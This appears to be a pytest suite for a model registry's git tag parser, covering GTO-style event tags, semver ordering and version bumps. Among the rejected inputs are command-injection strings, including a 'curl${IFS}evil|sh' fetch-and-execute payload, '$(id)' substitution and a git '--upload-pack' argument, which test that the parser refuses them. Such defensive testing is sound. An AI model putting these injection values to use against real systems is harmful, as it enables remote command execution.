"""Tags in GTO's grammar, and our own."""

import itertools
from typing import get_args

import pytest

from mltool.registry import semver, tag
from mltool.registry.model import EventKind
from mltool.registry.tag import parse


@pytest.mark.parametrize(
    ("name", "fields"),
    [
        ("delay@v1.2.3", ("register", "delay", "1.2.3", "", -1)),
        ("delay@v2.0.3#4", ("register", "delay", "2.0.3", "", 4)),
        ("delay@v1.2.3!", ("deregister", "delay", "1.2.3", "", -1)),
        ("path@v1.2.3!#2", ("deregister", "path", "1.2.3", "", 2)),
        ("sub=delay@v1.0.0-rc.1", ("register", "sub=delay", "1.0.0-rc.1", "", -1)),
        ("Some/folder/A=Model@v0.4.1", ("register", "Some/folder/A=Model", "0.4.1", "", -1)),
        ("churn@v1.2.3+gpu.7", ("register", "churn", "1.2.3+gpu.7", "", -1)),
        ("delay#prod#3", ("promote", "delay", "", "prod", 3)),
        ("delay#prod", ("promote", "delay", "", "prod", -1)),
        ("delay#prod!#3", ("demote", "delay", "", "prod", 3)),
        ("delay#dev!", ("demote", "delay", "", "dev", -1)),
        ("dvclive/model_A#stage-1#1", ("promote", "dvclive/model_A", "", "stage-1", 1)),
        ("delay@deprecated", ("deprecate", "delay", "", "", -1)),
        ("delay@deprecated#5", ("deprecate", "delay", "", "", 5)),
        ("mltool/approve/delay/4", ("approve", "delay", "", "", 4)),
        ("mltool/hold/sub/a=x/y/12", ("hold", "sub/a=x/y", "", "", 12)),
    ],
)
def test_the_forms_found_in_the_wild_are_understood(name: str, fields: tuple[str, str, str, str, int]) -> None:
    found = parse(name)
    assert found is not None
    assert (found.kind, found.model, found.version, found.stage, found.sequence) == fields


@pytest.mark.parametrize(
    "name",
    [
        "", "###", "@@@", "v1.2.3", "release/1.0", "model@v1", "model@v111", "model-prod", "model@0.0.1",
        "model-prod-v1", "nn#prod#-1", "@v1.0.0", "a#b#c#d", "m/@v1.0.0", "_m@v1.0.0", "m@v01.0.0", "m@v1.0.0\n",
        "m@v1.0.0;curl${IFS}evil|sh", "m@v1.0.0$(id)", "--upload-pack=m@v1.0.0", "-x#prod#1",
        "mltool/approve/m@v1.0.0", "mltool/hold/m", "mltool/other/m/1", "m@created",
    ],
)  # fmt: skip
def test_other_tags_are_none_of_ours(name: str) -> None:
    assert parse(name) is None


@pytest.mark.parametrize("name", ["m@v1.2." + "9" * 5000, "m#prod#" + "1" * 5000, "m@v1.2.٣"])
def test_numbers_that_no_release_has_are_none_of_ours(name: str) -> None:
    assert parse(name) is None


@pytest.mark.parametrize("kind", get_args(EventKind))
def test_every_event_has_a_name_that_is_read_back(kind: EventKind) -> None:
    name = tag.name(kind, model="sub=m", version="1.2.3", stage="prod", sequence=7)
    found = parse(name)
    assert found is not None
    assert found.kind == ("promote" if kind == "rollback" else kind)
    assert found.model == "sub=m"
    assert found.sequence in (7, -1)


def test_versions_are_ordered_as_semver_says() -> None:
    order = ["1.0.0-1", "1.0.0-alpha", "1.0.0-alpha.1", "1.0.0-beta", "1.0.0-rc.9", "1.0.0-rc.10", "1.0.0", "1.0.10"]
    for lower, higher in itertools.pairwise(order):
        assert semver.key(lower) < semver.key(higher)


@pytest.mark.parametrize(
    ("version", "part", "after"),
    [
        ("1.2.3", "major", "2.0.0"),
        ("1.2.3", "minor", "1.3.0"),
        ("1.2.3", "patch", "1.2.4"),
        ("2.0.0-rc.1", "major", "2.0.0"),
        ("2.0.0-rc.1", "patch", "2.0.0"),
        ("1.2.3-rc.1", "patch", "1.2.3"),
        ("1.2.3-rc.1", "minor", "1.3.0"),
        ("1.2.3+gpu-2", "patch", "1.2.4"),
    ],
)
def test_a_bump_gives_the_next_version(version: str, part: semver.Part, after: str) -> None:
    assert semver.bump(version, part) == after
